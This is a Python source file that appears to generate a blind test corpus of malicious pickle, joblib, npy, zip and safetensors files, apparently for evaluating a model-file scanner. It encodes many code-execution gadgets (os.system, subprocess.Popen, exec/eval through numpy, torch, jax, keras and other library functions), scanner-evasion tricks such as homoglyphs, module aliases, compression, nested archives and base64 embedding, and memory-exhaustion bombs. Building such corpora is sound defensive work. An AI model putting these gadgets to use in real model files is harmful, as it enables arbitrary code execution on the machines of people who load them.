"""A second blind round: pickles that wait behind compression, arrays, other loaders and the newer opcodes."""

import base64
import bz2
import gzip
import lzma
import struct
import zlib

from assemble import *
from containers import legacy, npy, raw_zip, tarred, torch_zip, zipped

PY = b"\x80\x05"


def bytearray8(content):
    return Raw(b"\x96" + struct.pack("<Q", len(content)) + content)


def reduced(callee, *arguments):
    return pickle(call(callee, *arguments), 4)


def pickles():
    partial = name("functools", "partial")
    yield "bytearray-of-pickle.pkl", PY + literal({"w": bytearray8(HOSTILE)}) + STOP
    yield "loads-of-bytearray.pkl", PY + literal(call(name("_pickle", "loads"), bytearray8(HOSTILE))) + STOP
    yield "out-of-band-buffer.pkl", PY + literal(Raw(literal(name("pickle", "loads")) + b"\x97\x85R")) + STOP
    yield "read-only-buffer.pkl", PY + literal(Raw(literal(name("marshal", "loads")) + b"\x97\x98\x85R")) + STOP
    yield "newobj-ex-keywords.pkl", pickle(Raw(literal(name("subprocess", "Popen")) + literal(()) + literal({"args": ["true"]}) + b"\x92"), 4)
    yield "newobj-of-popen.pkl", pickle(new(name("subprocess", "Popen"), ["true"]), 2)
    yield "obj-opcode.pkl", pickle(Raw(b"(" + literal(SYSTEM) + literal(MARKER) + b"o"), 1)
    yield "inst-opcode.pkl", b"(S'true'\nios\nsystem\n."
    yield "inst-nested-name.pkl", b"(S'true'\nicollections\nabc.sys.modules.get\n."
    yield "global-with-spaces.pkl", b"c os\nsystem\n(S'true'\ntR."
    yield "global-carriage-return.pkl", b"cos\r\nsystem\r\n(S'true'\r\ntR."
    yield "global-homoglyph.pkl", pickle(call(stacked("оs", "system"), MARKER), 4)
    yield "module-alias-posixpath.pkl", reduced(stacked("posixpath", "os.system"), MARKER)
    yield "module-alias-genericpath.pkl", reduced(stacked("genericpath", "os.popen"), MARKER)
    yield "names-by-encode.pkl", pickle(Raw(literal(call(name("_codecs", "encode"), "os", "ascii")) + text("system") + b"\x93" + literal((MARKER,)) + b"R"), 4)
    yield "names-by-join.pkl", pickle(Raw(literal(call(name("builtins", "str"), "os")) + text("system") + b"\x93" + literal((MARKER,)) + b"R"), 4)
    yield "reconstruct-of-system.pkl", reduced(name("numpy.core.multiarray", "_reconstruct"), SYSTEM, (0,), b"b")
    yield "scalar-of-object.pkl", reduced(name("numpy._core.multiarray", "scalar"), call(name("numpy", "dtype"), "O"), HOSTILE)
    yield "mareconstruct-of-popen.pkl", reduced(name("numpy.ma.core", "_mareconstruct"), name("subprocess", "Popen"), name("numpy", "ndarray"), (0,), "b")
    yield "new-index-of-popen.pkl", reduced(name("pandas.core.indexes.base", "_new_Index"), name("subprocess", "Popen"), {"args": ["true"]})
    yield "rebuild-subclass.pkl", reduced(name("torch._tensor", "_rebuild_from_type"), name("builtins", "exec"), name("torch", "Tensor"), (PYTHON,), {})
    yield "jax-rebuild.pkl", reduced(name("jax._src.array", "_reconstruct_array"), name("builtins", "eval"), (PYTHON,), None, None)
    yield "keras-bytecode.pkl", reduced(name("keras.src.saving.pickle_utils", "deserialize_model_from_bytecode"), zipped([("config.json", b"{}")]))
    yield "numba-custom.pkl", reduced(name("numba.core.serialize", "_unpickle__CustomPickled"), HOSTILE)
    yield "spacy-doc.pkl", reduced(name("spacy.tokens.doc", "unpickle_doc"), None, HOSTILE, b"")
    yield "skorch-network.pkl", pickle(build(new(name("skorch.classifier", "NeuralNetClassifier")), {"__cuda_dependent_attributes__": HOSTILE}), 4)
    yield "skorch-network-zip.pkl", pickle(build(new(name("skorch.net", "NeuralNet")), {"__cuda_dependent_attributes__": torch_zip(HOSTILE)}), 4)
    yield "arrow-extension.pkl", reduced(name("pyarrow.lib", "PyExtensionType.__arrow_ext_deserialize__"), None, HOSTILE)
    yield "polars-state.pkl", pickle(build(new(name("polars.dataframe.frame", "DataFrame")), [RUN]), 4)
    yield "dataset-transform.pkl", pickle(build(new(name("torchvision.transforms.transforms", "Lambda")), {"lambd": SYSTEM}), 4)
    yield "compose-of-system.pkl", pickle(build(new(name("torchvision.transforms.transforms", "Compose")), {"transforms": [SYSTEM]}), 4)
    yield "scheduler-lambda.pkl", pickle({"lr_scheduler": {"lr_lambdas": [call(name("types", "FunctionType"), call(name("marshal", "loads"), b"\xe3"), {})]}}, 4)
    yield "tokenizer-of-keras.pkl", pickle(build(new(name("keras.preprocessing.text", "Tokenizer")), {"analyzer": name("os", "system")}), 4)
    yield "gensim-callback.pkl", pickle(build(new(name("gensim.models.word2vec", "Word2Vec")), {"callbacks": [RUN]}), 4)
    yield "statsmodels-formula.pkl", pickle(build(new(name("statsmodels.base.data", "PandasData")), {"restore_design_info": True, "formula": "__import__('os').system('true')", "frame": None}), 4)
    yield "scipy-frozen-template.pkl", pickle(build(new(name("scipy.stats._distn_infrastructure", "rv_continuous")), {"_parse_arg_template": PYTHON}), 4)
    yield "flask-session.pkl", pickle(call(name("werkzeug.utils", "secure_filename"), "x"), 4)
    yield "omegaconf-resolver.pkl", pickle(call(stacked("omegaconf.omegaconf", "OmegaConf.register_new_resolver"), "x", SYSTEM), 4)
    yield "logging-filter.pkl", pickle(build(new(name("logging", "Logger")), {"filters": [SYSTEM]}), 4)
    yield "thread-start.pkl", pickle(call(stacked("threading", "Thread.start"), new(name("threading", "Thread"))), 4)
    yield "partial-setstate.pkl", pickle(Raw(literal(build(new(partial, name("builtins", "print")), (SYSTEM, (MARKER,), {}, None))) + b")R"), 4)
    yield "partial-invoked.pkl", pickle(call(call(partial, name("torch.hub", "load_state_dict_from_url"), "http://payload.invalid/x")), 4)
    yield "dup-bomb.pkl", b"\x80\x02(lq\x00" + b"".join(b"(l" + b"h" + bytes([i]) + b"a" + b"h" + bytes([i]) + b"aq" + bytes([i + 1]) for i in range(40)) + b"."
    yield "long-of-a-gigabyte.pkl", b"\x80\x02\x8b\xff\xff\xff\x3f\x01."
    yield "string-of-a-terabyte.pkl", b"\x80\x04\x8d\x00\x00\x00\x00\x00\x01\x00\x00x."
    yield "memo-index-huge.pkl", b"\x80\x02]r\xff\xff\xff\x7f."
    yield "range-materialised.pkl", pickle(call(name("builtins", "list"), call(name("builtins", "range"), 2**31 - 1)), 4)
    yield "bytearray-of-size.pkl", pickle(call(name("builtins", "bytearray"), 2**31 - 1), 4)


def compressed():
    for title, packed in {
        "zlib": zlib.compress(HOSTILE), "gzip": gzip.compress(HOSTILE), "bz2": bz2.compress(HOSTILE), "xz": lzma.compress(HOSTILE), "lzma": lzma.compress(HOSTILE, format=lzma.FORMAT_ALONE), "zf": b"ZF" + b"0x%-19x" % len(HOSTILE) + zlib.compress(HOSTILE),
        "gzip-twice": gzip.compress(gzip.compress(HOSTILE)), "gzip-of-zip": gzip.compress(torch_zip(HOSTILE)), "xz-of-tar": lzma.compress(tarred([("m.pkl", HOSTILE)])), "gzip-second-member": gzip.compress(HONEST) + gzip.compress(HOSTILE), "bz2-second-stream": bz2.compress(HONEST) + bz2.compress(HOSTILE), "zlib-then-raw": zlib.compress(HONEST) + HOSTILE}.items():
        yield f"{title}.joblib", packed


def arrays():
    yield "interleaved.joblib", pickle(STATE)[:-1] + b"0" + literal(build(new(name("joblib.numpy_pickle", "NumpyArrayWrapper")), {"subclass": name("numpy", "ndarray"), "shape": (2,), "order": "C", "dtype": call(name("numpy", "dtype"), "f8"), "allow_mmap": True})) + bytes(16) + literal(RUN) + STOP
    yield "wrapper-of-objects.joblib", pickle(Raw(literal(build(new(name("joblib.numpy_pickle", "NumpyArrayWrapper")), {"subclass": name("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": call(name("numpy", "dtype"), "O"), "allow_mmap": False})) + HOSTILE + b"0N"))
    yield "version-3.npy", npy(HOSTILE, (3, 0))
    yield "version-2.npy", npy(HOSTILE, (2, 0))
    yield "nested-structure.npy", npy(HOSTILE, descr="[('a', [('b', 'O')])]")
    yield "object-named-alias.npy", npy(HOSTILE, descr="object")
    yield "behind-numbers.npy", npy(bytes(8) + HOSTILE, descr="<f4", shape="(2,)")
    yield "inside.npz", zipped([("arr_0.npy", npy(HOSTILE, (2, 0)))])
    yield "deflated.npz", zipped([("w.npy", npy(HOSTILE))], 8)


def archives():
    yield "five-deep.zip", zipped([("a", zipped([("b", zipped([("c", zipped([("d", zipped([("m.pkl", HOSTILE)]))]))]))]))])
    yield "in-tar-in-gz.zip", zipped([("x.tgz", gzip.compress(tarred([("m", HOSTILE)])))])
    yield "utf8-name.pt", raw_zip([("архив/data.pkl".encode(), HOSTILE)])
    yield "dot-segments.pt", raw_zip([(b"archive/./data.pkl", HOSTILE)])
    yield "absolute.pt", raw_zip([(b"/archive/data.pkl", HOSTILE)])
    yield "legacy-in-zip.pt", zipped([("m.bin", legacy(HOSTILE))])
    yield "zip-with-prefix.bin", b"\x00" * 1000 + torch_zip(HOSTILE)
    yield "two-zips.bin", torch_zip(HONEST) + torch_zip(HOSTILE)
    yield "base64-in-json.json", b'{"model": "' + base64.b64encode(HOSTILE) + b'"}'
    yield "base64-in-yaml.yaml", b"model: !!binary " + base64.b64encode(HOSTILE) + b"\n"
    yield "safetensors-metadata.safetensors", (lambda header: struct.pack("<Q", len(header)) + header)(b'{"__metadata__":{"state":"' + base64.b64encode(HOSTILE) + b'"}}')


def files():
    for group in (pickles, compressed, arrays, archives):
        for title, content in group():
            yield f"{group.__name__}/{title}", content
